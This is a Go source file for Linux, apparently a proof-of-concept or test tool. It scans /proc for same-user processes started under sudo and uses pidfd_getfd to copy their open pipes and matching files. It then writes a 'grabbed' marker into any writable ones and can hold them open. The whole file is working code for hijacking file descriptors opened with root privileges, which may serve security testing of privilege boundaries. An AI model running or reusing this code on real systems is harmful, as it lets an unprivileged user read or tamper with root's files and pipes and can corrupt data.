//go:build linux

package main

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// grab copies the descriptors of other processes of this user that root has started,
// as pidfd_getfd(2) allows. It logs them, writes to those that are writable,
// and with keep holds them open.
func grab(match string, keep bool, log io.Writer, stopped func() bool) error {
	seen := map[string]bool{}
	for !stopped() {
		pids, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range pids {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			if pid == os.Getpid() || !descendsFromRoot(pid) {
				continue
			}
			if !seen[dir] {
				seen[dir] = true
				fmt.Fprintf(log, "saw %d\n", pid)
			}
			links, _ := os.ReadDir(filepath.Join(dir, "fd"))
			for _, link := range links {
				target, _ := os.Readlink(filepath.Join(dir, "fd", link.Name()))
				key := dir + " " + link.Name() + " " + target
				if seen[key] || !isOfInterest(target, match) {
					continue
				}
				number, _ := strconv.Atoi(link.Name())
				if copyDescriptor(pid, number, target, keep, log) {
					seen[key] = true
				}
			}
		}
	}
	return nil
}

// isOfInterest reports whether a descriptor matches: a file of root, or a pipe.
func isOfInterest(target, match string) bool {
	return match != "" && strings.Contains(target, match) || match == "" && strings.HasPrefix(target, "pipe:")
}

// descendsFromRoot reports whether a process of this user was started by a process of
// root: it is a descendant of sudo.
func descendsFromRoot(pid int) bool {
	var info unix.Stat_t
	if unix.Stat(fmt.Sprintf("/proc/%d", pid), &info) != nil || int(info.Uid) != os.Getuid() {
		return false
	}
	for range 12 { // the script's own subshells are in between
		text, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			return false
		}
		_, rest, _ := strings.Cut(string(text), ") ")
		fields := strings.Fields(rest)
		if len(fields) < 2 {
			return false
		}
		if pid, _ = strconv.Atoi(fields[1]); pid <= 1 {
			return false
		}
		if name, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid)); strings.HasPrefix(string(name), "sudo") {
			return true
		}
	}
	return false
}

// copyDescriptor copies a descriptor into this process and logs it.
func copyDescriptor(pid, number int, target string, keep bool, log io.Writer) bool {
	process, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return false
	}
	defer unix.Close(process)
	fd, err := unix.PidfdGetfd(process, number, 0)
	if err != nil {
		return false
	}
	if !keep {
		defer unix.Close(fd)
	}
	var info unix.Stat_t
	flags, _ := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0)
	if unix.Fstat(fd, &info) != nil {
		return false
	}
	wrote := 0
	if flags&unix.O_ACCMODE != unix.O_RDONLY {
		_ = unix.SetNonblock(fd, true)
		wrote, _ = unix.Write(fd, []byte("grabbed\n"))
	}
	fmt.Fprintf(log, "grab uid=%d kind=%o access=%d wrote=%d %s\n", info.Uid, info.Mode&unix.S_IFMT, flags&unix.O_ACCMODE, wrote, target)
	return true
}
